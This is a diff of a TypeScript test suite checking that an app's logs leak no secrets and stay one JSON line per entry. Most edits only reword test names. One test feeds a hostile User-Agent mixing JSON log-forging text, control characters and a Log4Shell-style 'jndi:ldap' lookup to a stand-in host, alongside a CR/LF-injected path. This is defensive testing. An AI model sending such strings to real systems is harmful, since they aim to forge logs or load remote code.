@@ -14,8 +14,8 @@ function failureOf(method: string): Error {
     : new RepositoryError(planted, { cause })
 }
 
-describe.each(databases)('the log on %s (V16.2.5, CS-SM-10, CS-LOG-5)', (kind) => {
-  it('holds no token, password or code of a whole tour, and one line for each request', async () => {
+describe.each(databases)('log on %s (V16.2.5, CS-SM-10, CS-LOG-5)', (kind) => {
+  it('contains no token, password or code of a full tour, and one line per request', async () => {
     await using app = await anApp(kind, { env: { SIGNUP: 'invite' } })
     const code = (await app.features.accounts.issueSetUpCode()) ?? ''
     const password = 'lantern gravel oboe sixty'
@@ -53,7 +53,7 @@ describe.each(databases)('the log on %s (V16.2.5, CS-SM-10, CS-LOG-5)', (kind) =
     )
   })
 
-  it('stays one line of JSON for each entry, whatever the client calls itself (V16.4.1)', async () => {
+  it('has one line of JSON per entry, whatever the user agent contains (V16.4.1)', async () => {
     await using app = await anApp(kind)
     const hostile = 'x","event":"session-created"}\t{"level":50} \u00a0\u0085 jndi:ldap://evil.test'
     await app.send('/login%0a%0d{"a":1}', { headers: [['User-Agent', hostile]] })
@@ -68,7 +68,7 @@ describe.each(databases)('the log on %s (V16.2.5, CS-SM-10, CS-LOG-5)', (kind) =
     expect(app.log().map(({ event }) => event)).toContain('token-rejected')
   })
 
-  it('would be caught if it did: the witness complains of a planted secret, cookie or header', async () => {
+  it('the leak detector fails on a planted secret, cookie or header', async () => {
     const app = await anApp(kind)
     const browser = await aSignedInBrowser(app)
     app.leakDetector.log(`{"token":"${browser.sessionCookie()}"}`)
@@ -97,6 +97,6 @@ describe.each(databases)('the log on %s (V16.2.5, CS-SM-10, CS-LOG-5)', (kind) =
     ]) {
       expect(findings.join('\n')).toContain(part)
     }
-    await expect(app[Symbol.asyncDispose]()).rejects.toThrow(/no answer and no log line/)
+    await expect(app[Symbol.asyncDispose]()).rejects.toThrow(/leaks in responses/)
   })
 })
